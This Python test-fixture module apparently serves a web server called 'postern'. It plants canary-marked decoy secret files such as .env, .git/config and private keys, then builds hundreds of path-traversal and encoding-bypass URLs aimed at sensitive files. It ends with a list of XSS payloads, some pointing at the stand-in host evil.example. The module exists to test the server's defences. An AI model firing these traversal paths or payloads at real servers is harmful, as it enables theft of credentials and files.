"""What strangers ask a web server for: decoys to lay into a document root, and paths that try to get at files.

lay(docroot)          decoys beside the program, each with MARK in it, as operators and editors leave them behind
every_file(docroot)   the path of each file there that is not meant for visitors
tricks()              each way of writing a path that might slip by a rule, for a few files worth having
"""

from __future__ import annotations

import os
import pathlib
from collections.abc import Iterator

MARK = b"this is in the file and must not be in any answer"

DECOYS = (
    ".env",
    ".env.bak",
    ".env~",
    ".env.save",
    ".env.local",
    ".envrc",
    ".git/config",
    ".git/HEAD",
    ".git/index",
    ".gitignore~",
    ".hg/hgrc",
    ".svn/entries",
    ".DS_Store",
    ".htpasswd",
    ".htaccess.bak",
    ".htaccess~",
    ".htaccess.new-123",
    ".user.ini",
    ".bash_history",
    ".ssh/id_rsa",
    ".vscode/sftp.json",
    ".idea/workspace.xml",
    ".postern-home",
    ".README.md.swp",
    ".well-known/security.txt.bak",
    ".well-known/acme-challenge/.token",
    "#README.md#",
    "4913",
    "backup.sql",
    "backup.sql.gz",
    "backup.tar.gz",
    "canary-0a1b2c3d.txt",
    "cgi-bin/.env",
    "cgi-bin/env.cgi",
    "cgi-bin/postern.cgi.bak",
    "cgi-bin/postern.cgi.orig",
    "cgi-bin/postern.cgi~",
    "cgi-bin/postern.py",
    "config.php",
    "config.php.bak",
    "core",
    "data.db",
    "dump.sql",
    "env",
    "error_log",
    "favicon.ico",
    "home/.env",
    "id_rsa",
    "index.html",
    "index.htm",
    "index.html~",
    "index.php",
    "info.php",
    "install.log",
    "lib/postern/.doors.py.swp",
    "lib/postern/__pycache__/doors.cpython-311.pyc",
    "lib/postern/doors.py.orig",
    "lib/postern/doors.py.rej",
    "lib/postern/doors.py~",
    "logs/postern-2026-01-01.log",
    "nohup.out",
    "passenger.log",
    "php.ini",
    "phpinfo.php",
    "postern-1.0.tar.gz",
    "postern.sqlite",
    "private.key",
    "public_html.zip",
    "requirements.txt.bak",
    "robots.txt",
    "secrets.json",
    "server.pem",
    "static.zip",
    "static/.env",
    "static/.hidden",
    "static/app.css.map",
    "static/app.css~",
    "static/app.js.bak",
    "static/app.py",
    "static/backup.sql",
    "static/deep/app.css",
    "static/index.html",
    "static/noextension",
    "static/run.cgi",
    "static/two.dots.css",
    "stderr.log",
    "tests/conftest.py",
    "tmp/restart.txt",
    "wp-config.php",
)

PRIZES = (
    ".env",
    ".git/config",
    ".htaccess",
    "README.md",
    "backup.sql",
    "cgi-bin/postern.py",
    "cron/deliver.py",
    "install.sh",
    "lib/postern/doors.py",
    "requirements.txt",
    "schema/0001_accounts.up.sql",
)
"""Files that the tricks are tried on."""


def lay(docroot: pathlib.Path) -> None:
    """Write the decoys, and put the mark into the program's own files, which cannot run after that."""
    for name in DECOYS:
        path = docroot / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(MARK + b"\n")
        path.chmod(0o644)
    for name in every_file(docroot):
        path = docroot / name
        if path.name != ".htaccess" and MARK not in path.read_bytes():
            path.write_bytes(MARK + b"\n" + path.read_bytes())


def every_file(docroot: pathlib.Path) -> Iterator[str]:
    """All but the static files that have a name of ours."""
    for folder, _, files in os.walk(docroot):
        for name in files:
            path = pathlib.Path(folder, name).relative_to(docroot).as_posix()
            if not path.startswith("static/") or path in DECOYS:
                yield path


def tricks() -> Iterator[bytes]:
    """Paths as bytes, for Server.get_raw()."""
    for prize in PRIZES:
        for path in (*in_front(prize), *behind(prize), *spelled(prize)):
            yield path.encode("latin-1")


def in_front(prize: str) -> Iterator[str]:
    """The way leads through something that is allowed, or is written otherwise."""
    for way in (
        "",
        "/",
        "//",
        "/.",
        "/%2e",
        "/;",
        "/.;",
        "/%20",
        "/x/..",
        "/x/%2e%2e",
        "/lib/..",
        "/static/..",
        "/static//..",
        "/static/%2e%2e",
        "/static/.%2e",
        "/static/..%2f",
        "/static/..%2F",
        "/static/%252e%252e",
        "/static/..%252f",
        "/static/..;",
        "/static/..%5c",
        "/static/..\\",
        "/static/%c0%ae%c0%ae",
        "/static/..%c0%af",
        "/static/app.css",
        "/static/app.css/..",
        "/static/app.css/../..",
        "/static/app.css%2f..%2f..",
        "/cgi-bin",
        "/cgi-bin/..",
        "/cgi-bin/%2e%2e",
        "/cgi-bin/postern.cgi",
        "/cgi-bin/postern.cgi/..",
        "/cgi-bin/postern.cgi/../..",
        "/.well-known/acme-challenge",
        "/.well-known/acme-challenge/../..",
        "/.well-known/acme-challenge/%2e%2e/%2e%2e",
        "/.well-known/acme-challenge/x/../../..",
        "/.well-known/acme-challenge/..%2f..",
        "/~alice",
        "/home/alice/public_html",
        "/..",
        "/../..",
        "/../../../../../home/alice/public_html",
        "/%2e%2e",
        "\\",
        "/%5c",
        "http://alias.example",
        "http://alias.example/",
        "http://127.0.0.1//",
        "https://alias.example",
        "file://",
        "//alias.example",
    ):
        yield f"{way}/{prize}"


def behind(prize: str) -> Iterator[str]:
    """Something at the end makes it look like another file, or like the same."""
    for tail in (
        "/",
        "//",
        "/.",
        "/..",
        "/x",
        "/x.css",
        "/static/app.css",
        "/../static/app.css/../../" + prize,
        ".",
        "..",
        "%20",
        "%20.css",
        "+",
        "%00",
        "%00.css",
        "%0a",
        "%0a.css",
        "%0d%0a.css",
        "%09",
        "%3f",
        "%3f.css",
        "%3F/../static/app.css",
        "%23.css",
        "#.css",
        ";",
        ";.css",
        ";/static/app.css",
        ";jsessionid=1.css",
        ",v",
        "~",
        ".css",
        ".bak",
        ".old",
        ".orig",
        ".save",
        ".swp",
        ".tmp",
        ".txt",
        ".gz",
        "_",
        "-",
        "::$DATA",
        ":",
        "%ff",
        "%e2%80%ae",
        "\xe4",
        "?",
        "?x=.css",
        "?/static/app.css",
        "?static/app.css",
        " ",
        " .css",
        "\t",
        "\x00",
        "\x00.css",
        "\x0b",
    ):
        yield f"/{prize}{tail}"


def spelled(prize: str) -> Iterator[str]:
    """Other letters for the same name."""
    yield f"/{prize.upper()}"
    yield f"/{prize.title()}"
    yield f"/{prize.swapcase()}"
    yield "/" + "".join(f"%{ord(letter):02x}" for letter in prize)
    yield "/" + "".join(f"%{ord(letter):02X}" if letter != "/" else "/" for letter in prize)
    yield "/" + "".join(f"%25{ord(letter):02x}" for letter in prize)
    yield "/" + prize.replace(".", "%2e")
    yield "/" + prize.replace(".", "%u002e")
    yield "/" + prize.replace("/", "%2f")
    yield "/" + prize.replace("/", "//")
    yield "/" + prize.replace("/", "/./")
    yield "/" + prize.replace("/", "\\")
    yield f"{prize}"


MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=csrf>",
    "$csrf <b>${csrf}</b>",
    "<!--",
    "<\u2028script>alert(1)</script>",
)
"""What people may write, and what pages must show as text."""
